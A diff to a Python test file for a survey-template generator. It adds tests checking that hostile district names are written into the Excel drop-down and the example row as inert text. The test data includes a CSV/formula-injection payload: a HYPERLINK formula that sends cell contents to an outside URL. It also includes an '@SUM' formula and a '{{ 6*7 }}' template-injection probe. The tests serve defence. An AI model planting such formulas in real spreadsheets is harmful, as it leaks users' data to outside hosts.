@@ -13,15 +13,21 @@ import pytest
 import shapely
 from shapely.geometry import box
 
+from geo.cells import xlsx_text
+from geo.cli import main
 from geo.config import BOUNDARIES_PATH
 from geo.i18n import column_label
 from geo.template import (
+    INSTRUCTIONS_SHEET,
     LAST_ROW,
     SURVEY_COLUMNS,
+    SURVEY_SHEET,
     survey_headers,
     survey_template_bytes,
     write_survey_template,
 )
+from tests import hostile
+from tests.test_cells import workbook_cells
 
 CHINESE = re.compile("[\u4e00-\u9fff]")
 
@@ -202,3 +208,41 @@ def test_bad_language_and_folder(districts, tmp_path):
         survey_template_bytes(districts, lang="fr")
     with pytest.raises(FileNotFoundError):
         write_survey_template(tmp_path / "missing" / "t.xlsx", districts)
+
+
+# --------------------------------------------------------------------------- hostile district names
+
+
+def hostile_districts() -> gpd.GeoDataFrame:
+    """Liuzhou's districts renamed with hostile strings, and a district for each other hostile string."""
+    names = hostile.ALL
+    return gpd.GeoDataFrame(
+        {"district_code": [f"45{i:04d}" for i in range(len(names))], "district_name": names},
+        geometry=[box(109 + i / 100, 24, 109.01 + i / 100, 24.01) for i in range(len(names))], crs="EPSG:4326",
+    )
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_hostile_district_names_are_text_in_list_and_example(lang, tmp_path, capsys):
+    districts = hostile_districts()
+    # The names as the drop-down offers them: stripped, empty and repeated ones dropped.
+    offered = list(dict.fromkeys(name.strip() for name in hostile.ALL if name.strip()))
+    expected = [xlsx_text(name) for name in offered]
+    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")" in expected and "'@SUM(9)" in expected
+
+    boundaries = tmp_path / "districts.geojson"
+    districts.to_file(boundaries, driver="GeoJSON")
+    out = tmp_path / "survey.xlsx"
+    assert main(["template", "--out", str(out), "--lang", lang, "--boundaries", str(boundaries)]) == 0
+    capsys.readouterr()
+    for content in (survey_template_bytes(districts, lang=lang), out.read_bytes()):
+        sheets = workbook_cells(content)  # fails on any formula or error cell
+        assert [row[0] for row in sheets["_lists"][1:len(expected) + 1]] == expected
+        assert all(row[0] is None for row in sheets["_lists"][len(expected) + 1:])
+        example = [row for row in sheets[INSTRUCTIONS_SHEET[lang]] if row[:2] == survey_headers(lang)[:2]]
+        assert len(example) == 1
+        instructions = sheets[INSTRUCTIONS_SHEET[lang]]
+        assert instructions[instructions.index(example[0]) + 1][2] == expected[0] == "{{ 6*7 }}"
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        district = validations(book[SURVEY_SHEET[lang]])[letter("district_name")]
+        assert district.formula1 == f"'_lists'!$A$2:$A${len(expected) + 1}"  # a range: no name in a formula
